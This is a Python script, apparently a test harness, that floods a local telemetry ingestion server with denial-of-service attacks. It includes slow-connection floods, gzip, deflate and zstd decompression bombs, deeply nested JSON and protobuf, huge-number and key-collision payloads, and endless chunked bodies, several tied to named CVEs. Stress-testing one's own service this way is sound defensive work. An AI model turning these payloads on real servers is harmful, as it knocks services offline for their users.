"""What attackers send, until they are stopped: attackers.py NAME PORT SOURCE [TOKEN], a process of its own.

Each attack is a function of the target; it goes on whatever it is answered, and opens anew what was closed. It prints
a line once it has begun. It runs niced: in the world attackers burn cores of their own, not the server's.
"""

import gzip
import http.client
import json
import os
import random
import socket
import sys
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from functools import cache

import zstandard

# Never set: senders keep a pace, they wait for nothing.
_PACE = threading.Event()
# How much the attackers' own work stands back on a machine that they share with the server.
_NICE = 10

MIB = 1024 * 1024
_EVENT = {"request_model": "gpt-4o", "usage": {"input_tokens": 1, "output_tokens": 1}}


@cache
def begun() -> None:
    """Say once that the attack is on."""
    sys.stdout.write("begun\n")
    sys.stdout.flush()


@dataclass(frozen=True)
class Target:
    """Where to send, from which address, and as whom."""

    port: int
    source: str
    token: str = ""

    def connect(self) -> socket.socket:
        return socket.create_connection(("127.0.0.1", self.port), timeout=20, source_address=(self.source, 0))

    def head(self, method: str = "POST", path: str = "/v1/calls", more: str = "") -> bytes:
        authorization = f"Authorization: Bearer {self.token}\r\n" if self.token else ""
        always = "Host: localhost\r\nContent-Type: application/json\r\n"
        return f"{method} {path} HTTP/1.1\r\n{always}{authorization}{more}".encode()

    def post(self, body: bytes, path: str = "/v1/calls", **headers: str) -> None:
        """Send one body and wait for its answer, whatever it is."""
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60, source_address=(self.source, 0))
        headers = {name.replace("_", "-"): value for name, value in headers.items()}
        headers.setdefault("content-type", "application/json")
        if self.token:
            headers["authorization"] = f"Bearer {self.token}"
        with suppress(OSError, http.client.HTTPException):
            connection.request("POST", path, body, headers)
            begun()
            connection.getresponse().read()
        connection.close()


def dripping(target: Target, first: bytes, connections: int) -> None:
    """Hold connections open, each with one byte more every second."""
    held: list[socket.socket | None] = [None] * connections
    while True:
        for place, former in enumerate(held):
            one = former
            try:
                if one is None:
                    one = held[place] = target.connect()
                    one.sendall(first)
                one.send(b"a")
                one.setblocking(False)
                with suppress(BlockingIOError):
                    if not one.recv(65_536):
                        raise ConnectionError
                one.settimeout(20)
            except OSError:
                if one is not None:
                    one.close()
                held[place] = None
        begun()
        _PACE.wait(1 if connections < 500 else 0.1)


def slow_bodies(connections: int) -> Callable[[Target], None]:
    return lambda target: dripping(target, target.head(more="Content-Length: 1000000\r\n\r\n"), connections)


def slow_heads(target: Target) -> None:
    dripping(target, target.head(more="X: "), 200)


def silence(target: Target) -> None:
    dripping(target, b"\r\n", 1_200)


def endless_headers(target: Target) -> None:
    while True:
        with suppress(OSError), target.connect() as one:
            one.sendall(target.head(more="X: "))
            begun()
            for _ in range(1_000):
                one.sendall(b"a" * 1_000_000)


def many_headers(target: Target) -> None:
    while True:
        with suppress(OSError), target.connect() as one:
            one.sendall(target.head())
            begun()
            for number in range(100_000):
                one.sendall(b"".join(b"X-%d: 1\r\n" % (1_000 * number + n) for n in range(1_000)))


def again(make: Callable[[], bytes], path: str = "/v1/calls", **headers: str) -> Callable[[Target], None]:
    """Send the same body again and again; it is made when the attack begins, since some take seconds to make."""

    def attack(target: Target) -> None:
        body = make()
        while True:
            target.post(body, path, **headers)

    return attack


def events(fields: Iterator[dict[str, object]], batch: int) -> Callable[[Target], None]:
    """Send batches of events, each with its own fields."""

    def attack(target: Target) -> None:
        while True:
            lines = (_EVENT | {"started_at": time.time_ns()} | next(fields) for _ in range(batch))
            target.post(b"\n".join(json.dumps(line).encode() for line in lines))

    return attack


def names() -> Iterator[dict[str, object]]:
    while True:
        one = random.getrandbits(64)
        yield {"feature": f"f{one}", "user_id": f"u{one}", "request_model": f"m{one}", "session_id": f"s{one}"}


def bad() -> Iterator[dict[str, object]]:
    while True:
        yield {"usage": {"input_tokens": -1}, "messages": "x" * 2_000}


def spans(number: int) -> bytes:
    """Return one trace of spans that look alike, all with one response id."""
    now_ns = time.time_ns()
    attributes = {"gen_ai.operation.name": "chat", "gen_ai.request.model": "gpt-4o", "gen_ai.response.id": "r"}
    pairs = [{"key": key, "value": {"stringValue": value}} for key, value in attributes.items()]
    pairs += [{"key": f"gen_ai.usage.{side}_tokens", "value": {"intValue": "1"}} for side in ("input", "output")]
    trace_id = f"{random.getrandbits(128) or 1:032x}"
    made = [
        {"traceId": trace_id, "spanId": f"{n + 1:016x}", "name": "chat", "kind": 3, "attributes": pairs,
         "startTimeUnixNano": str(now_ns - 10**9), "endTimeUnixNano": str(now_ns)}
        for n in range(number)
    ]  # fmt: skip
    return json.dumps({"resourceSpans": [{"scopeSpans": [{"scope": {"name": "s"}, "spans": made}]}]}).encode()


def traces(target: Target) -> None:
    while True:
        target.post(spans(12_000), "/v1/traces", content_type="application/json")


def reconnects(target: Target) -> None:
    while True:
        with suppress(OSError):
            one = target.connect()
            one.send(b"G")
            begun()
            one.close()


def deaf(target: Target) -> None:
    """Ask for much, many times on each connection, and read nothing."""
    held: list[socket.socket] = []
    while True:
        if len(held) < 200:
            with suppress(OSError):
                one = target.connect()
                one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
                one.sendall(target.head("GET", "/metrics", "\r\n") * 10)
                held.append(one)
        else:
            begun()
            _PACE.wait(0.1)


def chunked(piece: bytes) -> Callable[[Target], None]:
    """Send bodies that never end, in pieces."""

    def attack(target: Target) -> None:
        while True:
            with suppress(OSError), target.connect() as one:
                one.sendall(target.head(more="Transfer-Encoding: chunked\r\n\r\n"))
                begun()
                for _ in range(4_000):
                    one.sendall(piece * 1_000)

    return attack


def nested(depth: int) -> bytes:
    """Return a trace whose resource has a value in a value in a value, as protobuf writes lists."""
    value = b"\x0a\x01a"
    for _ in range(depth):
        value = _field(5, _field(1, value))
    return _field(1, _field(1, _field(1, _field(1, b"k") + _field(2, value))))


def _field(number: int, value: bytes) -> bytes:
    size, left = bytearray(), len(value)
    while left > 0x7F:
        size.append(left & 0x7F | 0x80)
        left >>= 7
    return bytes([number << 3 | 2]) + bytes(size) + bytes([left]) + value


def merged() -> bytes:
    """Return a trace with the same resource again and again, which has to be merged each time."""
    attribute = _field(1, _field(1, b"k") + _field(2, _field(1, b"v")))
    return _field(1, _field(1, attribute) * 700_000)


def event(**fields: object) -> bytes:
    return json.dumps(_EVENT | {"started_at": time.time_ns()} | fields).encode()


def lines(make: Callable[[], bytes], bytes_max: int) -> bytes:
    one = make()
    return b"\n".join([one] * (bytes_max // len(one)))


def asked(*paths: str) -> Callable[[Target], None]:
    """Ask the same questions again and again."""

    def attack(target: Target) -> None:
        connection = http.client.HTTPConnection("127.0.0.1", target.port, timeout=60, source_address=(target.source, 0))
        while True:
            for path in paths:
                try:
                    connection.request("GET", path, headers={"authorization": f"Bearer {target.token}"})
                    begun()
                    connection.getresponse().read()
                except (OSError, http.client.HTTPException):
                    connection.close()

    return attack


_EMPTY_MEMBER = gzip.compress(b"", mtime=0)
_STATS = [f"/v1/stats?window=1h&kind={kind}" for kind in ("user", "feature", "model")]
ATTACKS: dict[str, Callable[[Target], None]] = {
    "16 slow bodies": slow_bodies(16),
    "200 slow bodies": slow_bodies(200),
    "1,200 slow bodies": slow_bodies(1_200),
    "slow heads": slow_heads,
    "silence": silence,
    "endless headers": endless_headers,
    "many headers": many_headers,
    # 4 MB of empty members: each was searched for by copying all that follows.
    "gzip members": again(lambda: _EMPTY_MEMBER * 200_000, content_encoding="gzip"),
    # urllib3 #1467: 100 KB of members that each unpack to 41 KB.
    "gzip members that unpack": again(lambda: gzip.compress(bytes(1_032 * 40)) * 1_350, content_encoding="gzip"),
    "a ratio bomb": again(lambda: gzip.compress(bytes(128 * MIB), 9), content_encoding="gzip"),
    "a bomb below the ratio": again(
        lambda: gzip.compress(b"".join(b'{"a":%d}\n' % n for n in range(1_100_000))), content_encoding="gzip"
    ),
    "a deflate bomb": again(lambda: zlib.compress(bytes(64 * 1024 * 1024)), content_encoding="deflate"),
    "deep events": again(lambda: b'{"a":' * 1_000_000),
    "deep arrays": again(lambda: b"[" * 8_000_000),
    "deep OTLP": again(lambda: b'{"resourceSpans":' * 500_000, "/v1/traces", content_type="application/json"),
    # Two bytes a span on the wire.
    "empty spans": again(
        lambda: gzip.compress(b"\x0a\xff\xff\xff\x03\x12\xfa\xff\xff\x03" + b"\x12\x00" * 4_194_301), "/v1/traces",
        content_type="application/x-protobuf", content_encoding="gzip",
    ),
    "spans": traces,
    "names": events(names(), 2_000),
    "bad events": events(bad(), 2_000),
    # picohttpparser #81, twisted #6149: chunks of one byte, chunks with much beside them.
    "one-byte chunks": chunked(b"1\r\na\r\n"),
    "chunk extensions": chunked(b"1;" + b"x" * 200 + b"\r\na\r\n"),
    # CVE-2024-36129, of OpenTelemetry's collector.
    "a zstd bomb": again(
        lambda: zstandard.ZstdCompressor().compress(bytes(512 * MIB)), content_encoding="zstd"
    ),
    # jackson-databind #2141 and #2157, spray-json #278, borer #8, CPython's CVE-2020-10735: numbers without end.
    "long integers": again(lambda: b'{"usage":{"input_tokens":' + b"9" * 4_000_000 + b"}}"),
    "long fractions": again(lambda: lines(lambda: b'{"a":0.' + b"3" * 100_000 + b"}", 8 * MIB)),
    "huge exponents": again(lambda: lines(lambda: b'{"a":1e1000000000,"b":1e-1000000000}', 1 * MIB)),
    # JSONTestSuite, n_structure_open_array_object: 50,000 of these.
    "open arrays and objects": again(lambda: b'[{"":' * 1_500_000),
    # CVE-2012-1150 and oCERT-2011-003 are about such objects, where their keys collide.
    "many keys": again(lambda: b"{" + b",".join(b'"k%d":0' % n for n in range(1_000_000)) + b"}"),
    # CVE-2025-4565 and CVE-2024-7254 of protobuf.
    "deep protobuf": again(lambda: nested(20_000), "/v1/traces", content_type="application/x-protobuf"),
    # CVE-2022-3171 of protobuf: messages that are told again and again.
    "merged messages": again(merged, "/v1/traces", content_type="application/x-protobuf"),
    # CVE-2023-36053 of Django, and many like it: texts that look like addresses for ever.
    "texts like addresses": again(
        lambda: lines(lambda: event(messages=[{"role": "user", "content": "a@" * 50_000 + ".a" * 50_000}]), 2 * MIB)
    ),
    # orjson and msgspec unescape these one by one.
    "escapes": again(lambda: lines(lambda: b'{"request_model":"' + b"\\u0061" * 30_000 + b'"}', 8 * MIB)),
    "statistics": asked(*_STATS),
    "health checks": asked("/readyz", "/metrics", "/healthz"),
    "reconnects": reconnects,
    "deaf readers": deaf,
}  # fmt: skip

if __name__ == "__main__":
    os.nice(_NICE)
    name, port, source, *rest = sys.argv[1:]
    ATTACKS[name](Target(int(port), source, *rest))
